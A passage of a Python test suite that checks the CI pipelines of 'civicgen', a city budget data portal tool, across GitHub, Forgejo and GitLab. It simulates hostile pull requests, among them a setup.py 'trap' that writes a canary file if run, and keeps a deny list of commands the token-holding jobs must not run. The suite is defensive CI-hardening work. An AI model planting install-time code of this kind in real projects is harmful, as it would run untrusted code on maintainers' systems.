    deploy = run_job(forge, ".github/workflows/deploy.yml", "build", PUSH)
    assert not deploy.failed, "\n".join(deploy.logs)
    assert installed_from_the_wheel(forge)
    page = forge.root / "artifacts/github-pages/site/datasets/budget/index.html"
    assert "Springfield budget" in page.read_text()


def test_city_forgejo_workflow_runs_as_written(forge: Forge) -> None:
    forge.pull_request(7, raise_an_amount)
    job = run_job(forge, ".forgejo/workflows/validate.yml", "validate", PULL_REQUEST)
    report = report_of(job)
    assert installed_from_the_wheel(forge) and "6,500,000" in report, report
    assert (forge.root / "artifacts/civicgen-report/report.md").read_text() == report


def test_city_gitlab_pipelines_run_as_written(forge: Forge) -> None:
    forge.pull_request(7, raise_an_amount)
    done = run_gitlab_job(forge, "validate", GITLAB_MERGE_REQUEST)
    assert done.returncode == 0, done.stdout + done.stderr
    assert installed_from_the_wheel(forge) and "6,500,000" in (forge.work / "report.md").read_text()
    git("checkout", "-q", "main", cwd=forge.work)
    for job in ("validate", "pages"):
        done = run_gitlab_job(forge, job, GITLAB_MAIN)
        assert done.returncode == 0, done.stdout + done.stderr
    assert (forge.work / "public/datasets/budget/index.html").is_file()


def test_city_with_another_configuration_file_runs_its_ci(
    tmp_path: Path, civicgen_wheel: Path
) -> None:
    forge = city_on_a_forge(tmp_path, civicgen_wheel, config_file="portal.yml")
    forge.pull_request(7, raise_an_amount)
    job = run_job(forge, ".github/workflows/validate.yml", "validate", PULL_REQUEST)
    assert "6,500,000" in report_of(job) and "civicgen diff failed" not in report_of(job)
    done = run_gitlab_job(forge, "validate", GITLAB_MERGE_REQUEST)
    assert done.returncode == 0, done.stdout + done.stderr


def pull_request_ci(forge: Forge, which: str) -> str:
    """One forge's pull-request pipeline, which must succeed; the report it wrote."""
    if which == "gitlab":
        done = run_gitlab_job(forge, "validate", GITLAB_MERGE_REQUEST)
        assert done.returncode == 0, done.stdout + done.stderr
        return (forge.work / "report.md").read_text()
    workflow = f".{which}/workflows/validate.yml"
    return report_of(run_job(forge, workflow, "validate", PULL_REQUEST))


def pin_another_release(work: Path) -> None:
    """A pull request naming a civicgen release that does not exist: installing it fails."""
    (work / "requirements.txt").write_text("civicgen==99.0\n")


def add_packaging_code(work: Path) -> None:
    """A pull request adding code that runs if anything ever installs the city itself."""
    trap = "import os, pathlib; pathlib.Path(os.environ['FORGE'], 'pwned').write_text('ran')\n"
    (work / "setup.py").write_text(trap + "from setuptools import setup\nsetup()\n")
    (work / "pyproject.toml").write_text('[project]\nname = "city"\nversion = "1"\n')


FORGES = ["github", "forgejo", "gitlab"]


@pytest.mark.parametrize("which", FORGES)
def test_hostile_pull_request_cannot_choose_the_civicgen_its_ci_installs(
    tmp_path: Path, civicgen_wheel: Path, which: str
) -> None:
    forge = city_on_a_forge(tmp_path, civicgen_wheel)
    forge.pull_request(7, pin_another_release)
    report = pull_request_ci(forge, which)  # civicgen==99.0 would not install: the base's pin did
    assert installed_from_the_wheel(forge)
    assert report.count(CALL_OUT) == 1 and "`requirements.txt`" in report, report


@pytest.mark.parametrize("which", FORGES)
def test_hostile_pull_request_packaging_code_never_runs_in_ci(
    tmp_path: Path, civicgen_wheel: Path, which: str
) -> None:
    forge = city_on_a_forge(tmp_path, civicgen_wheel)
    forge.pull_request(7, add_packaging_code)
    report = pull_request_ci(forge, which)
    assert not (forge.root / "pwned").exists()
    assert "`setup.py`" in report and "`pyproject.toml`" in report, report


# --- GitLab and Forgejo post the report from trusted code ----------------------------------------
#
# The job that holds a write token runs the default branch's checkout and civicgen, and
# `civicgen post-report`, which reads the request as git objects (tests/test_forges.py).

GITLAB_SCHEDULE = {
    "CI_PIPELINE_SOURCE": "schedule",
    "CI_COMMIT_BRANCH": "main",
    "CI_DEFAULT_BRANCH": "main",
}
RUNS_THE_REQUEST = ("git checkout", "git switch", "git merge", "git pull", "git worktree",
                    "civicgen build", "civicgen validate", "civicgen diff", "mkdocs",
                    "refs/pull", "merge-requests", "head.sha", "head_ref", "pip install -e")  # fmt: skip


@pytest.fixture(params=["engine", "city"])
def repository(request: pytest.FixtureRequest, city: Path) -> Path:
    """This repository, or what `civicgen new` writes for another city."""
    return ROOT if request.param == "engine" else city


def test_gitlab_schedule_only_posts_and_the_posting_job_runs_nothing_of_a_request(
    repository: Path,
) -> None:
    config = yaml.safe_load((repository / ".gitlab-ci.yml").read_text())
    jobs = {name: job for name, job in config.items() if isinstance(job, dict) and "script" in job}
    assert [name for name, job in jobs.items() if gitlab_job_runs(job, GITLAB_SCHEDULE)] == [
        "post-report"
    ]
    elsewhere = {**GITLAB_SCHEDULE, "CI_COMMIT_BRANCH": "citizen-branch"}
    for env in (GITLAB_MERGE_REQUEST, GITLAB_MAIN, elsewhere):
        assert not gitlab_job_runs(jobs["post-report"], env), env
    script = "\n".join(jobs["post-report"]["script"])
    assert re.fullmatch(r"civicgen post-report( --config-file \S+)? --forge gitlab", script)
    before = "\n".join(config["before_script"])
    assert not [word for word in RUNS_THE_REQUEST if word in script]
    assert "CIVICGEN_FORGE_TOKEN" not in before + script  # in the environment, never a command
    assert "resource_group" in jobs["post-report"] and "timeout" in jobs["post-report"]


def test_forgejo_comment_workflow_runs_nothing_of_the_pull_request(repository: Path) -> None:
    path = repository / ".forgejo/workflows/comment.yml"
    workflow = load(path)
    assert set(workflow["on"]) == {"pull_request_target", "schedule", "workflow_dispatch"}
    assert workflow["permissions"] == {"contents": "read"}
    [job] = workflow["jobs"].values()
    assert job["permissions"] == {"contents": "read", "pull-requests": "write"}
    [checkout] = [step for step in job["steps"] if "uses" in step]
    assert checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}  # no ref: default
    scripts = "\n".join(step.get("run", "") for step in job["steps"])
    assert "civicgen post-report" in scripts and "--forge forgejo" in scripts
    assert not [word for word in RUNS_THE_REQUEST if word in scripts]
    assert "${{" not in scripts and "secrets." not in path.read_text()
    assert set(EXPRESSION.findall(path.read_text())) == {
        "github.token",
        "github.event.pull_request.number",
    }


@pytest.mark.parametrize("name", ["validate.yml", "comment.yml"])
def test_forgejo_actions_are_pinned_by_commit(repository: Path, name: str) -> None:
    steps_ = steps(load(repository / ".forgejo/workflows" / name))
    uses = [step["uses"] for step in steps_ if "uses" in step]
    assert uses and all(re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", u) for u in uses), uses


def test_the_forges_drop_what_githubs_comment_workflow_drops() -> None:
    """comment.yml keeps its own copy (its job installs nothing); it cannot drift below ours."""
    run = step_script(ENGINE_WORKFLOWS / "comment.yml", "Check the pull request and cap the report")
    [dropped] = re.findall(r're\.sub\(r"(\[[^"]+\])", ""', run)
    github = re.compile(dropped)
    assert all(UNSHOWN.match(c) for c in map(chr, range(0x3000)) if github.match(c))


def pull_request_on_the_forge(forge: Forge, kind: str) -> tuple[State, str]:
    """Pull request 7 (a raised amount), its head under the forge's own ref, and the forge's
    API state that names it; the work clone back on main, as a trusted job checks it out."""
    head = forge.pull_request(7, raise_an_amount)
    ref = "refs/merge-requests/7/head" if kind == "gitlab" else "refs/pull/7/head"
    git("push", "-q", "origin", f"pr-7:{ref}", cwd=forge.work)
    git("checkout", "-q", "main", cwd=forge.work)
    state = State(kind, "5" if kind == "gitlab" else "city/springfield")
    state.changes[7] = {"head": head, "base": "main"}
    return state, head


def test_city_gitlab_schedule_posts_the_report_as_written(forge: Forge) -> None:
    state, head = pull_request_on_the_forge(forge, "gitlab")
    with serving(state) as api:
        variables = {**GITLAB_SCHEDULE, "CI_API_V4_URL": api, "CI_PROJECT_ID": "5"}
        done = run_gitlab_job(forge, "post-report", {**variables, "CIVICGEN_FORGE_TOKEN": TOKEN})
        assert done.returncode == 0, done.stdout + done.stderr
        assert "merge request !7: posted" in done.stdout and TOKEN not in done.stdout
        again = run_gitlab_job(forge, "post-report", {**variables, "CIVICGEN_FORGE_TOKEN": TOKEN})
        assert "merge request !7: up to date" in again.stdout, again.stdout + again.stderr
    [note] = state.notes[7]
    assert described_head(note["body"]) == head and "6,500,000" in note["body"]
    assert installed_from_the_wheel(forge) and len(state.writes()) == 1


def test_city_forgejo_comment_workflow_posts_as_written(forge: Forge) -> None:
    state, head = pull_request_on_the_forge(forge, "forgejo")
    state.user = -2  # the automatic token writes as Forgejo's Actions user
    trusted = forge.root / "trusted"
    git("clone", "-q", str(forge.origin), str(trusted), cwd=forge.root)  # checkout: main
    context = {"github.token": TOKEN, "github.event.pull_request.number": "7"}
    with serving(state) as api:
        forge.env |= {"FORGEJO_API_URL": api, "FORGEJO_REPOSITORY": "city/springfield"}
        job = run_job(forge, ".forgejo/workflows/comment.yml", "comment", context, trusted)
    assert not job.failed, "\n".join(job.logs)
    [comment] = state.notes[7]
    assert described_head(comment["body"]) == head and "6,500,000" in comment["body"]
    assert comment["author"] == -2 and TOKEN not in "\n".join(job.logs)
    assert installed_from_the_wheel(forge)
